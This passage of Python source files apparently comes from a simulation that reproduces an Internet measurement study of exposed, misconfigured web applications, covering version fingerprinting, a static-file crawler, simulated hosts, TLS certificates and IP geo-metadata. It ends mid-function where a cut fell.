    "jupyter-notebook": _jupyter,
    "zeppelin": _zeppelin,
    "phpmyadmin": _phpmyadmin,
    "adminer": _adminer,
}


def extract_disclosed_version(context: PluginContext, slug: str) -> str | None:
    """Try the voluntary-disclosure channel for ``slug``; None if absent."""
    extractor = DISCLOSURE_EXTRACTORS.get(slug)
    if extractor is None:
        return None
    try:
        return extractor(context)
    except (KeyError, TypeError, AttributeError, json.JSONDecodeError):
        return None
