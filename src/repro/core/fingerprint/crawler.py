"""Static-file crawler feeding the hash fingerprinter.

Crawls a target application: fetches the landing page, extracts the
static resources it references (``src=`` / ``href=`` attributes), fetches
each, and — because stripped-down pages may reference nothing — also
probes the knowledge base's known paths for the candidate applications.
Returns ``path -> hash`` observations for
:meth:`~repro.core.fingerprint.knowledge_base.KnowledgeBase.identify`.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from repro.core.fingerprint.knowledge_base import KnowledgeBase, file_hash
from repro.core.retry import RetryExecutor
from repro.net.http import HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.obs.telemetry import Telemetry
from repro.util.errors import TransportError

_RESOURCE_RE = re.compile(r"""(?:src|href)=["']([^"']+)["']""")

#: extensions worth hashing — matches what the paper's KB stores
_STATIC_SUFFIXES = (".js", ".css", ".png", ".jpg", ".gif", ".svg", ".ico")


def extract_resource_paths(body: str) -> list[str]:
    """Static resource paths referenced by an HTML page (same host only)."""
    paths = []
    for match in _RESOURCE_RE.finditer(body):
        url = match.group(1)
        if "://" in url or url.startswith("//"):
            continue  # cross-origin: out of scope for a per-IP scan
        path = url if url.startswith("/") else "/" + url
        if path.lower().endswith(_STATIC_SUFFIXES):
            paths.append(path)
    return paths


@dataclass
class StaticFileCrawler:
    """Bounded crawler for one target."""

    transport: Transport
    max_fetches: int = 16
    #: when set, transient fetch failures are retried with backoff
    retry: RetryExecutor | None = None
    #: when set, fetch outcomes are counted as ``crawler_fetches_total``
    telemetry: Telemetry | None = None

    def _count_fetch(self, outcome: str) -> None:
        if self.telemetry is not None:
            self.telemetry.metrics.counter(
                "crawler_fetches_total", outcome=outcome
            ).inc()

    def _get(
        self, ip: IPv4Address, port: int, path: str, scheme: Scheme,
        follow_redirects: int = 5,
    ) -> HttpResponse:
        def attempt() -> HttpResponse:
            return self.transport.get(ip, port, path, scheme, follow_redirects)

        if self.retry is not None:
            return self.retry.call(ip, attempt)
        return attempt()

    def crawl(
        self,
        ip: IPv4Address,
        port: int,
        scheme: Scheme,
        candidates: tuple[str, ...] = (),
        kb: KnowledgeBase | None = None,
    ) -> dict[str, str]:
        """Collect ``path -> hash`` for the target's static files."""
        observations: dict[str, str] = {}
        fetches = 0

        try:
            landing = self._get(ip, port, "/", scheme)
        except TransportError:
            self._count_fetch("error")
            return observations
        self._count_fetch("ok")
        fetches += 1

        to_fetch: list[str] = extract_resource_paths(landing.body)
        if kb is not None:
            for slug in candidates:
                for path in kb.paths_for(slug):
                    if path not in to_fetch:
                        to_fetch.append(path)

        for path in to_fetch:
            if fetches >= self.max_fetches:
                break
            if path in observations:
                continue
            try:
                response = self._get(ip, port, path, scheme, follow_redirects=0)
            except TransportError:
                self._count_fetch("error")
                continue
            self._count_fetch("ok")
            fetches += 1
            if response.status != 200 or not response.body:
                continue
            observations[path] = file_hash(response.body)
        return observations
