"""Version fingerprinting.

Two complementary mechanisms, mirroring the paper:

* :mod:`repro.core.fingerprint.disclosure` — 13 of the 18 applications
  voluntarily reveal their version (an API endpoint, an HTML comment, a
  generator meta tag); cheap regex/JSON extraction.
* :mod:`repro.core.fingerprint.knowledge_base` +
  :mod:`repro.core.fingerprint.crawler` — for the rest (and for hosts
  that strip version strings): crawl the application's static files,
  hash them, and match the hashes against a knowledge base built from
  the applications' release corpus.

:class:`~repro.core.fingerprint.fingerprinter.VersionFingerprinter`
combines both, disclosure first.
"""

from repro.core.fingerprint.knowledge_base import KnowledgeBase, build_default_knowledge_base
from repro.core.fingerprint.crawler import StaticFileCrawler
from repro.core.fingerprint.disclosure import extract_disclosed_version
from repro.core.fingerprint.fingerprinter import Fingerprint, VersionFingerprinter

__all__ = [
    "KnowledgeBase",
    "build_default_knowledge_base",
    "StaticFileCrawler",
    "extract_disclosed_version",
    "Fingerprint",
    "VersionFingerprinter",
]
