"""Simulated hosts and the services they expose.

A :class:`Host` owns a set of :class:`Service` objects keyed by port.  A
service either wraps an application emulator (an AWE, or an out-of-scope
product) or a generic responder (default web-server pages, API gateways —
the background noise a real scan wades through).

Hosts model the network quirks the paper had to handle:

* ports that are open but speak neither HTTP nor HTTPS;
* HTTPS-only services that answer HTTP with a redirect to HTTPS;
* "all ports open" middleboxes that accept every TCP connection but never
  return an application response (3.0M such hosts in the paper, excluded
  from its Table 2).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Callable

from typing import TYPE_CHECKING

from repro.net.http import HttpRequest, HttpResponse, Scheme

if TYPE_CHECKING:  # avoid a circular import with repro.apps at runtime
    from repro.apps.base import AppInstance, WebApplication
from repro.net.ipv4 import IPv4Address
from repro.util.errors import ConnectionRefused, ConnectionTimeout, TlsError


class HostKind(enum.Enum):
    """Why this host exists in the population."""

    AWE = "awe"                  # runs one of the 25 investigated apps
    BACKGROUND = "background"    # generic web server / other service
    MIDDLEBOX = "middlebox"      # accepts all ports, answers nothing


GenericResponder = Callable[[HttpRequest], HttpResponse]


@dataclass
class Service:
    """One listening port on a host."""

    port: int
    schemes: frozenset[Scheme] = frozenset({Scheme.HTTP})
    app: AppInstance | None = None
    responder: GenericResponder | None = None
    #: open TCP port that speaks no HTTP at all (SSH, SMTP, custom TCP...)
    non_http: bool = False
    #: certificate presented when the service speaks HTTPS
    certificate: object | None = None  # repro.net.tls.Certificate
    #: name-based virtual hosts: Host header -> application.  Requests
    #: without a matching Host header reach the default `app`/`responder`
    #: (why IP-only scans under-count, paper §6.2).
    vhosts: dict[str, "AppInstance"] | None = None

    def speaks(self, scheme: Scheme) -> bool:
        return not self.non_http and scheme in self.schemes

    def handle(self, scheme: Scheme, request: HttpRequest) -> HttpResponse:
        if self.non_http:
            raise ConnectionTimeout(f"port {self.port} does not speak HTTP")
        if scheme not in self.schemes:
            if scheme is Scheme.HTTP and Scheme.HTTPS in self.schemes:
                # Common pattern: HTTP answers only to say "use HTTPS".
                return HttpResponse.redirect(f"https://{{host}}:{self.port}/", 301)
            raise TlsError(f"port {self.port} does not speak {scheme}")
        if self.vhosts:
            named = self.vhosts.get(request.headers.get("host", ""))
            if named is not None:
                return named.handle(request)
        if self.app is not None:
            return self.app.handle(request)
        if self.responder is not None:
            return self.responder(request)
        return HttpResponse.not_found()


@dataclass
class Host:
    """A simulated Internet host."""

    ip: IPv4Address
    kind: HostKind = HostKind.BACKGROUND
    services: dict[int, Service] = field(default_factory=dict)
    online: bool = True

    def add_service(self, service: Service) -> None:
        if service.port in self.services:
            raise ValueError(f"{self.ip} already listens on {service.port}")
        self.services[service.port] = service

    def is_port_open(self, port: int) -> bool:
        if not self.online:
            return False
        if self.kind is HostKind.MIDDLEBOX:
            return True
        return port in self.services

    def certificate_on(self, port: int):
        """The certificate a TLS handshake on ``port`` would present."""
        if not self.online or self.kind is HostKind.MIDDLEBOX:
            return None
        service = self.services.get(port)
        if service is None or Scheme.HTTPS not in service.schemes:
            return None
        return service.certificate

    def exchange(self, port: int, scheme: Scheme, request: HttpRequest) -> HttpResponse:
        if not self.online:
            raise ConnectionTimeout(f"{self.ip} is offline")
        if self.kind is HostKind.MIDDLEBOX:
            # Accepts the TCP handshake but never produces bytes.
            raise ConnectionTimeout(f"{self.ip}:{port} accepted but stayed silent")
        service = self.services.get(port)
        if service is None:
            raise ConnectionRefused(f"{self.ip}:{port} is closed")
        return service.handle(scheme, request)

    # -- convenience accessors used by the experiments ------------------------

    def apps(self) -> list[AppInstance]:
        """Application instances exposed by this host (deduplicated).

        The paper counts an application once per host even if it listens on
        multiple ports, so callers rely on the dedup here.
        """
        seen: set[int] = set()
        out: list["AppInstance"] = []
        for service in self.services.values():
            candidates = list(service.vhosts.values()) if service.vhosts else []
            if service.app is not None:
                candidates.insert(0, service.app)
            for instance in candidates:
                if id(instance.app) not in seen:
                    seen.add(id(instance.app))
                    out.append(instance)
        return out

    def app_instance(self, slug: str) -> WebApplication | None:
        for instance in self.apps():
            if instance.slug == slug:
                return instance.app
        return None

    def has_vulnerable_app(self) -> bool:
        return any(inst.app.is_vulnerable() for inst in self.apps())

    def take_offline(self) -> None:
        self.online = False
