"""TLS certificate modelling.

Two consumers need certificates:

* the paper's **responsible disclosure** (§3.2): "we try to connect to
  each via HTTPS and inspected the returned certificate (if any) to see
  if it contains a domain we can contact";
* the paper's **future-work observation** (§6.2): attackers can watch
  Certificate Transparency logs for newly issued certificates and probe
  fresh deployments before their installation is finished.

We model exactly what those uses observe: subject common name, SANs,
issuance time, and whether the certificate is self-signed (no usable
contact domain).
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.util.rand import stable_hash

#: word lists for plausible, clearly-fake domain generation
_WORDS_A = (
    "blue", "rapid", "cloud", "nova", "prime", "atlas", "delta", "lunar",
    "pixel", "quant", "verdant", "ember", "polar", "citrus", "velvet",
)
_WORDS_B = (
    "forge", "metrics", "labs", "stack", "works", "systems", "data",
    "deploy", "hosting", "apps", "grid", "digital", "media", "soft",
)
_TLDS = ("example", "test", "invalid")  # RFC 2606 reserved, never routable


@dataclass(frozen=True)
class Certificate:
    """What a TLS handshake (or a CT log entry) reveals."""

    common_name: str
    subject_alt_names: tuple[str, ...]
    issued_at: float          # simulation time (seconds)
    issuer: str
    self_signed: bool = False

    @property
    def domains(self) -> tuple[str, ...]:
        """All names on the certificate, CN first, deduplicated."""
        seen: list[str] = []
        for name in (self.common_name, *self.subject_alt_names):
            if name and name not in seen:
                seen.append(name)
        return tuple(seen)

    def contact_domain(self) -> str | None:
        """The registrable domain a notification could be sent to.

        Self-signed certificates and wildcard-only names give nothing to
        contact (the paper could only notify owners whose certificates
        named a real domain).
        """
        if self.self_signed:
            return None
        for name in self.domains:
            if name.startswith("*."):
                name = name[2:]
            if "." in name and not name.replace(".", "").isdigit():
                return name
        return None


def generate_domain(rng: random.Random) -> str:
    """A plausible but guaranteed-unroutable domain name."""
    return (
        f"{rng.choice(_WORDS_A)}{rng.choice(_WORDS_B)}"
        f"{rng.randrange(100)}.{rng.choice(_TLDS)}"
    )


def issue_certificate(
    rng: random.Random,
    domain: str | None = None,
    issued_at: float = 0.0,
    self_signed_chance: float = 0.25,
) -> Certificate:
    """Issue a certificate like the population's CA mix would.

    Roughly a quarter of HTTPS services in the wild present self-signed
    or IP-literal certificates that carry no contactable domain.
    """
    if rng.random() < self_signed_chance:
        return Certificate(
            common_name="localhost",
            subject_alt_names=(),
            issued_at=issued_at,
            issuer="self",
            self_signed=True,
        )
    domain = domain or generate_domain(rng)
    sans = (domain, f"www.{domain}")
    issuer = rng.choice(("R3 (Let's Encrypt)", "Sectigo", "DigiCert"))
    return Certificate(
        common_name=domain,
        subject_alt_names=sans,
        issued_at=issued_at,
        issuer=issuer,
    )


def deterministic_certificate(seed_parts: tuple[object, ...], issued_at: float = 0.0) -> Certificate:
    """A reproducible certificate derived from a stable seed."""
    rng = random.Random(stable_hash("certificate", *seed_parts))
    return issue_certificate(rng, issued_at=issued_at)
