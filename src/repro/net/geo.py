"""IP metadata service (the paper uses IPHub for this role).

Maps an address to country, autonomous system, provider name, and whether
the network is a dedicated hosting provider.  The simulation *assigns*
metadata when it creates hosts or attackers, drawing from weighted
profiles calibrated to the paper's observed mixes (Tables 4, 7, 8); the
analysis layer then *queries* the service exactly like the paper queried
IPHub, without access to the generation-side truth.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.net.ipv4 import IPv4Address
from repro.util.rand import stable_hash, weighted_choice


@dataclass(frozen=True)
class IpMetadata:
    """What the metadata service knows about one address."""

    country: str
    asn: str            # e.g. "AS16509"
    provider: str       # e.g. "Amazon EC2"
    is_hosting: bool    # dedicated hosting provider network?


@dataclass(frozen=True)
class _ProfileEntry:
    metadata: IpMetadata
    weight: float


def _entry(country: str, asn: str, provider: str, hosting: bool, weight: float) -> _ProfileEntry:
    return _ProfileEntry(IpMetadata(country, asn, provider, hosting), weight)


# Mix for *vulnerable AWE hosts*, calibrated to Table 4: US and China
# dominate; Amazon EC2, Alibaba, Amazon AES, DigitalOcean and Google Cloud
# are the top ASes; ~64% sit in dedicated hosting networks.
VULNERABLE_HOST_PROFILE: tuple[_ProfileEntry, ...] = (
    _entry("United States", "AS16509", "Amazon EC2", True, 860),
    _entry("United States", "AS14618", "Amazon AES", True, 329),
    _entry("United States", "AS396982", "Google Cloud", True, 170),
    _entry("United States", "AS14061", "DigitalOcean", True, 130),
    _entry("United States", "AS7922", "Comcast Cable", False, 380),
    _entry("United States", "AS701", "Verizon Business", False, 235),
    _entry("China", "AS37963", "Alibaba", True, 542),
    _entry("China", "AS45090", "Tencent Cloud", True, 260),
    _entry("China", "AS4134", "China Telecom", False, 198),
    _entry("Germany", "AS24940", "Hetzner", True, 120),
    _entry("Germany", "AS3320", "Deutsche Telekom", False, 52),
    _entry("Singapore", "AS14061", "DigitalOcean", True, 60),
    _entry("Singapore", "AS16509", "Amazon EC2", True, 37),
    _entry("France", "AS16276", "OVH", True, 96),
    _entry("Netherlands", "AS49981", "WorldStream", True, 60),
    _entry("South Korea", "AS4766", "Korea Telecom", False, 95),
    _entry("India", "AS14061", "DigitalOcean", True, 54),
    _entry("Japan", "AS2516", "KDDI", False, 80),
    _entry("Brazil", "AS28573", "Claro", False, 75),
    _entry("Russia", "AS12389", "Rostelecom", False, 70),
    _entry("United Kingdom", "AS20712", "Andrews & Arnold", False, 48),
    _entry("Canada", "AS16276", "OVH", True, 70),
)

# Mix for generic background hosts: broader, more residential.
BACKGROUND_HOST_PROFILE: tuple[_ProfileEntry, ...] = (
    _entry("United States", "AS16509", "Amazon EC2", True, 180),
    _entry("United States", "AS7922", "Comcast Cable", False, 220),
    _entry("China", "AS4134", "China Telecom", False, 200),
    _entry("Germany", "AS24940", "Hetzner", True, 90),
    _entry("France", "AS16276", "OVH", True, 80),
    _entry("Japan", "AS4713", "NTT", False, 90),
    _entry("Brazil", "AS28573", "Claro", False, 70),
    _entry("Russia", "AS12389", "Rostelecom", False, 70),
)

# Mix for *attack origins*, calibrated to Tables 7 and 8: Serverion BV in
# the Netherlands and Gamers Club in Brazil lead, DigitalOcean spreads over
# many countries, Alexhost concentrates in Moldova.
ATTACKER_PROFILE: tuple[_ProfileEntry, ...] = (
    _entry("Netherlands", "AS211252", "Serverion BV", True, 450),
    _entry("Germany", "AS211252", "Serverion BV", True, 25),
    _entry("Brazil", "AS268624", "Gamers Club", True, 380),
    _entry("Poland", "AS268624", "Gamers Club", True, 16),
    _entry("United States", "AS14061", "DigitalOcean", True, 170),
    _entry("Singapore", "AS14061", "DigitalOcean", True, 110),
    _entry("India", "AS14061", "DigitalOcean", True, 40),
    _entry("United Kingdom", "AS14061", "DigitalOcean", True, 31),
    _entry("Moldova", "AS200019", "Alexhost", True, 135),
    _entry("United States", "AS16509", "Amazon EC2", True, 78),
    _entry("United States", "AS398101", "GoDaddy", True, 60),
    _entry("United States", "AS8075", "Microsoft Azure", True, 51),
    _entry("Russia", "AS12389", "Rostelecom", False, 100),
    _entry("Russia", "AS9123", "TimeWeb", True, 92),
    _entry("Netherlands", "AS60781", "LeaseWeb", True, 46),
    _entry("Poland", "AS12824", "home.pl", True, 53),
    _entry("Switzerland", "AS51395", "Softplus", True, 51),
    _entry("United Kingdom", "AS9009", "M247", True, 40),
    _entry("India", "AS45609", "Bharti Airtel", False, 12),
    _entry("China", "AS45090", "Tencent Cloud", True, 45),
    _entry("Singapore", "AS16509", "Amazon EC2", True, 58),
    _entry("France", "AS16276", "OVH", True, 30),
)

_FALLBACK = IpMetadata("Unknown", "AS0", "Unknown", False)


class GeoDatabase:
    """Registry + query service for IP metadata."""

    def __init__(self) -> None:
        self._records: dict[int, IpMetadata] = {}

    def assign(
        self,
        ip: IPv4Address,
        rng: random.Random,
        profile: tuple[_ProfileEntry, ...],
    ) -> IpMetadata:
        """Draw metadata from ``profile`` and register it for ``ip``."""
        weights = {entry.metadata: entry.weight for entry in profile}
        metadata = weighted_choice(rng, weights)
        self._records[ip.value] = metadata
        return metadata

    def assign_fixed(self, ip: IPv4Address, metadata: IpMetadata) -> None:
        self._records[ip.value] = metadata

    def lookup(self, ip: IPv4Address) -> IpMetadata:
        """Query interface (what the paper buys from IPHub).

        Unregistered addresses get a stable, pseudo-random answer from the
        background mix, so lookups never fail — like a real metadata
        service, which has *some* answer for every routable address.
        """
        record = self._records.get(ip.value)
        if record is not None:
            return record
        rng = random.Random(stable_hash("geo-fallback", ip.value))
        weights = {e.metadata: e.weight for e in BACKGROUND_HOST_PROFILE}
        return weighted_choice(rng, weights)

    def __len__(self) -> int:
        return len(self._records)
