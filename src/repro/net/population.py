"""Census-calibrated generation of the simulated Internet.

The paper measured the real IPv4 space; we generate a population whose
*observable statistics* match its published measurements (Tables 2-4),
then let the scanning pipeline re-measure them.  Because simulating tens
of millions of background web servers is pointless, the generator uses
**stratified sampling**: each stratum (background noise, middleboxes,
secure AWE deployments, vulnerable AWE deployments) is generated at its
own sampling rate, and every host carries a Horvitz-Thompson weight
``1/rate`` so the analysis layer can report unbiased Internet-scale
estimates.  Vulnerable hosts default to rate 1.0 — all 4,221 of them are
individually simulated, since the longevity and geography analyses need
them one by one.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.apps.base import AppInstance, WebApplication
from repro.apps.catalog import AppSpec, app_by_slug
from repro.apps.versions import RELEASE_DB, SCAN_DATE, Release
from repro.net.geo import (
    BACKGROUND_HOST_PROFILE,
    VULNERABLE_HOST_PROFILE,
    GeoDatabase,
)
from repro.net.host import Host, HostKind, Service
from repro.net.http import HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet, allocate_addresses
from repro.net.tls import issue_certificate
from repro.util.errors import ConfigError
from repro.util.rand import SeededStreams

__all__ = [
    "AppPrevalence",
    "PAPER_PREVALENCE",
    "PopulationModel",
    "Census",
    "generate_internet",
]


@dataclass(frozen=True)
class AppPrevalence:
    """One row of the paper's Table 3: exposure and vulnerability counts."""

    slug: str
    exposed_hosts: int
    mavs: int

    @property
    def secure_hosts(self) -> int:
        return self.exposed_hosts - self.mavs


#: Table 3 of the paper, verbatim.
PAPER_PREVALENCE: tuple[AppPrevalence, ...] = (
    AppPrevalence("jenkins", 2_440, 80),
    AppPrevalence("gocd", 587, 36),
    AppPrevalence("wordpress", 1_462_625, 345),
    AppPrevalence("grav", 2_617, 4),
    AppPrevalence("joomla", 50_274, 16),
    AppPrevalence("drupal", 65_414, 258),
    AppPrevalence("kubernetes", 706_235, 495),
    AppPrevalence("docker", 893, 657),
    AppPrevalence("consul", 9_447, 190),
    AppPrevalence("hadoop", 923, 556),
    AppPrevalence("nomad", 1_231, 729),
    AppPrevalence("jupyterlab", 1_369, 53),
    AppPrevalence("jupyter-notebook", 9_549, 313),
    AppPrevalence("zeppelin", 1_033, 82),
    AppPrevalence("polynote", 8, 8),
    AppPrevalence("ajenti", 1_292, 0),
    AppPrevalence("phpmyadmin", 184_968, 396),
    AppPrevalence("adminer", 6_621, 3),
)

#: Background open ports from Table 2: port -> (open, http, https), in
#: real-Internet counts.  AWE hosts are generated separately, so these act
#: as the non-AWE bulk (AWE counts are negligible against the millions).
PAPER_PORT_BACKGROUND: dict[int, tuple[int, int, int]] = {
    80: (56_800_000, 51_300_000, 0),
    443: (50_100_000, 0, 35_900_000),
    2375: (120_000, 11_000, 2_000),
    4646: (180_000, 24_000, 4_000),
    6443: (553_000, 304_000, 322_000),
    8000: (5_500_000, 1_600_000, 293_000),
    8080: (9_000_000, 7_600_000, 667_000),
    8088: (2_600_000, 857_000, 943_000),
    8153: (291_000, 171_000, 3_000),
    8192: (331_000, 175_000, 7_000),
    8500: (384_000, 62_000, 107_000),
    8888: (2_400_000, 1_800_000, 192_000),
}

#: "we found 3.0M hosts that appeared to always have all ports open"
PAPER_MIDDLEBOX_COUNT = 3_000_000

#: Out-of-scope products still exist on the Internet and exercise the
#: prefilter's rejection path (counts are plausible, not from the paper).
OUT_OF_SCOPE_EXPOSURE: dict[str, int] = {
    "gitlab": 80_000,
    "drone": 4_000,
    "travis": 500,
    "ghost": 120_000,
    "spark-notebook": 300,
    "vestacp": 30_000,
    "omnidb": 800,
}

#: Deployment freshness per category (how closely installs track releases),
#: tuned so RQ2's category medians land where the paper reports them:
#: CMS ~May 2021, CI/CM ~Jan 2021, NB ~Jan 2020, CP ~Sep 2019.
CATEGORY_FRESHNESS: dict[str, float] = {
    "CMS": 0.70,
    "CI": 0.25,
    "CM": 0.25,
    "NB": 0.04,
    "CP": 0.01,
}


@dataclass
class PopulationModel:
    """Knobs of the generator.  Defaults give a laptop-scale Internet."""

    seed: int = 20210603  # the scan date, for flavour
    #: sampling rate for secure AWE deployments
    awe_rate: float = 0.01
    #: sampling rate for vulnerable deployments (1.0 = all 4,221)
    vuln_rate: float = 1.0
    #: sampling rate for background servers and middleboxes
    background_rate: float = 2e-6
    include_background: bool = True
    include_middleboxes: bool = True
    include_out_of_scope: bool = True
    #: chance that an 80/443 application host serves both ports
    dual_port_chance: float = 0.05

    def __post_init__(self) -> None:
        for name in ("awe_rate", "vuln_rate", "background_rate"):
            rate = getattr(self, name)
            if not 0.0 < rate <= 1.0:
                raise ConfigError(f"{name} must be in (0, 1], got {rate}")


@dataclass
class Census:
    """Generation-side bookkeeping: strata weights and ground truth.

    ``weight_of`` feeds the Horvitz-Thompson estimators in the analysis
    layer; the per-app counters are the ground truth that the pipeline's
    measurements are validated against.
    """

    model: PopulationModel
    weights: dict[int, float] = field(default_factory=dict)
    generated_secure: dict[str, int] = field(default_factory=dict)
    generated_vulnerable: dict[str, int] = field(default_factory=dict)

    def weight_of(self, ip: IPv4Address) -> float:
        return self.weights.get(ip.value, 0.0)

    def note_host(self, ip: IPv4Address, rate: float) -> None:
        self.weights[ip.value] = 1.0 / rate

    def generated_total(self, slug: str) -> int:
        return self.generated_secure.get(slug, 0) + self.generated_vulnerable.get(slug, 0)


def _sample_count(rng: random.Random, expected: float) -> int:
    """Integer draw with mean ``expected`` (probabilistic rounding)."""
    base = int(expected)
    return base + (1 if rng.random() < expected - base else 0)


def _generic_page(flavour: str) -> str:
    pages = {
        "nginx": "<html><head><title>Welcome to nginx!</title></head>"
                 "<body><h1>Welcome to nginx!</h1></body></html>",
        "apache": "<html><head><title>Apache2 Default Page</title></head>"
                  "<body>It works!</body></html>",
        "iis": "<html><head><title>IIS Windows Server</title></head>"
               "<body><img src=iisstart.png></body></html>",
        "router": "<html><head><title>Router Login</title></head>"
                  "<body><form>admin login</form></body></html>",
        "api": '{"status":"ok","service":"internal-api","endpoints":[]}',
    }
    return pages[flavour]


_GENERIC_FLAVOURS = ("nginx", "apache", "iis", "router", "api")


class _BackgroundResponder:
    """One static background page as a picklable callable.

    A closure would serve the page just as well, but generated internets
    now cross the process-pool boundary whole (the parallel engine ships
    its transport — internet included — to worker processes), and local
    functions cannot be pickled.
    """

    __slots__ = ("flavour", "body")

    def __init__(self, flavour: str) -> None:
        self.flavour = flavour
        self.body = _generic_page(flavour)

    def __call__(self, request) -> HttpResponse:
        if self.flavour == "api":
            return HttpResponse.json(self.body)
        return HttpResponse.html(self.body)


def _make_background_responder(flavour: str) -> _BackgroundResponder:
    return _BackgroundResponder(flavour)


class _Generator:
    """Single-use generator driven by :func:`generate_internet`."""

    def __init__(self, model: PopulationModel) -> None:
        self.model = model
        self.streams = SeededStreams(model.seed)
        self.internet = SimulatedInternet()
        self.geo = GeoDatabase()
        self.census = Census(model)
        self._taken: set[int] = set()

    # -- version sampling ------------------------------------------------

    def _freshness(self, spec: AppSpec) -> float:
        return CATEGORY_FRESHNESS[spec.category.short]

    def _sample_secure_release(self, rng: random.Random, spec: AppSpec) -> Release:
        return RELEASE_DB.sample(rng, spec.slug, self._freshness(spec))

    def _sample_vulnerable_release(self, rng: random.Random, spec: AppSpec) -> Release:
        """Version of a vulnerable deployment.

        Figure 1's key observations: vulnerable hosts skew older; for
        changed-default software (Jupyter Notebook) ~80% of MAVs run
        pre-change releases; for never-changed software (Hadoop) MAVs
        spread roughly evenly over all releases.
        """
        releases = [r for r in RELEASE_DB.releases(spec.slug) if r.date <= SCAN_DATE]
        if spec.posture.value == "changed" and spec.secured_since is not None:
            cutoff = RELEASE_DB.release_date(spec.slug, spec.secured_since)
            old = [r for r in releases if r.date < cutoff]
            new = [r for r in releases if r.date >= cutoff]
            if old and rng.random() < 0.8:
                return rng.choice(old)
            if new:
                return rng.choice(new)
            return rng.choice(releases)
        if spec.posture.value == "insecure":
            if spec.vuln_kind.value == "Install":
                # Pre-installation state: people install *current* releases.
                return RELEASE_DB.sample(rng, spec.slug, self._freshness(spec))
            return rng.choice(releases)  # evenly spread, like Hadoop
        # Secure-by-default software made vulnerable by explicit
        # misconfiguration: mild age bias versus the secure population.
        return RELEASE_DB.sample(rng, spec.slug, self._freshness(spec) * 0.5)

    # -- instance builders ----------------------------------------------------

    def _build_instance(
        self, rng: random.Random, spec: AppSpec, vulnerable: bool
    ) -> WebApplication:
        if vulnerable:
            overrides = dict(spec.insecure_overrides or {})
            for _ in range(64):
                release = self._sample_vulnerable_release(rng, spec)
                instance = spec.emulator(release.version, dict(overrides))
                if instance.is_vulnerable():
                    return instance
            raise ConfigError(f"could not build a vulnerable {spec.slug}")
        release = self._sample_secure_release(rng, spec)
        instance = spec.emulator(release.version, {})
        if instance.is_vulnerable():
            # Old default was insecure; this owner secured it explicitly.
            instance.secure()
        return instance

    def _attach_app(self, rng: random.Random, host: Host, app: WebApplication) -> None:
        ports = app.default_ports
        if ports == (80, 443):
            use_https = rng.random() < 0.35
            primary = 443 if use_https else 80
            scheme = Scheme.HTTPS if use_https else Scheme.HTTP
            instance = AppInstance(app, primary, tls=use_https)
            certificate = issue_certificate(rng) if use_https else None
            host.add_service(
                Service(primary, frozenset({scheme}), app=instance,
                        certificate=certificate)
            )
            if rng.random() < self.model.dual_port_chance:
                other = 80 if use_https else 443
                other_scheme = Scheme.HTTP if use_https else Scheme.HTTPS
                host.add_service(
                    Service(other, frozenset({other_scheme}),
                            app=AppInstance(app, other, tls=not use_https),
                            certificate=None if use_https else issue_certificate(rng))
                )
        else:
            port = ports[0]
            # A minority of API/UI ports are TLS-wrapped (Table 2 shows
            # HTTPS on every scanned port).  API-port certificates are
            # far more often self-signed than web-site ones.
            use_https = rng.random() < 0.15
            scheme = Scheme.HTTPS if use_https else Scheme.HTTP
            certificate = (
                issue_certificate(rng, self_signed_chance=0.7) if use_https else None
            )
            host.add_service(
                Service(port, frozenset({scheme}),
                        app=AppInstance(app, port, tls=use_https),
                        certificate=certificate)
            )

    # -- strata -----------------------------------------------------------------

    def generate_awe_hosts(self) -> None:
        rng = self.streams.stream("awe-hosts")
        for prevalence in PAPER_PREVALENCE:
            spec = app_by_slug(prevalence.slug)
            n_vuln = _sample_count(rng, prevalence.mavs * self.model.vuln_rate)
            n_secure = _sample_count(rng, prevalence.secure_hosts * self.model.awe_rate)
            self.census.generated_vulnerable[spec.slug] = n_vuln
            self.census.generated_secure[spec.slug] = n_secure
            for index in range(n_vuln + n_secure):
                vulnerable = index < n_vuln
                app = self._build_instance(rng, spec, vulnerable)
                ip = allocate_addresses(rng, 1, self._taken)[0]
                host = Host(ip, HostKind.AWE)
                self._attach_app(rng, host, app)
                self.internet.add_host(host)
                rate = self.model.vuln_rate if vulnerable else self.model.awe_rate
                self.census.note_host(ip, rate)
                profile = VULNERABLE_HOST_PROFILE if vulnerable else BACKGROUND_HOST_PROFILE
                self.geo.assign(ip, rng, profile)

    def generate_out_of_scope_hosts(self) -> None:
        if not self.model.include_out_of_scope:
            return
        rng = self.streams.stream("oos-hosts")
        for slug, exposure in OUT_OF_SCOPE_EXPOSURE.items():
            spec = app_by_slug(slug)
            count = _sample_count(rng, exposure * self.model.awe_rate)
            for _ in range(count):
                release = self._sample_secure_release(rng, spec)
                app = spec.emulator(release.version, {})
                ip = allocate_addresses(rng, 1, self._taken)[0]
                host = Host(ip, HostKind.AWE)
                self._attach_app(rng, host, app)
                self.internet.add_host(host)
                self.census.note_host(ip, self.model.awe_rate)
                self.geo.assign(ip, rng, BACKGROUND_HOST_PROFILE)

    def generate_background(self) -> None:
        if not self.model.include_background:
            return
        rng = self.streams.stream("background")
        for port, (open_count, http_count, https_count) in PAPER_PORT_BACKGROUND.items():
            count = _sample_count(rng, open_count * self.model.background_rate)
            p_http = http_count / open_count
            p_https = https_count / open_count
            for _ in range(count):
                ip = allocate_addresses(rng, 1, self._taken)[0]
                host = Host(ip, HostKind.BACKGROUND)
                draw = rng.random()
                if draw < p_http:
                    schemes = frozenset({Scheme.HTTP})
                    non_http = False
                elif draw < p_http + p_https:
                    schemes = frozenset({Scheme.HTTPS})
                    non_http = False
                else:
                    schemes = frozenset()
                    non_http = True  # open port, not HTTP(S): SSH, MQTT, ...
                flavour = rng.choice(_GENERIC_FLAVOURS)
                host.add_service(
                    Service(port, schemes, responder=_make_background_responder(flavour),
                            non_http=non_http)
                )
                self.internet.add_host(host)
                self.census.note_host(ip, self.model.background_rate)
                self.geo.assign(ip, rng, BACKGROUND_HOST_PROFILE)

    def generate_middleboxes(self) -> None:
        if not self.model.include_middleboxes:
            return
        rng = self.streams.stream("middleboxes")
        count = _sample_count(rng, PAPER_MIDDLEBOX_COUNT * self.model.background_rate)
        for _ in range(count):
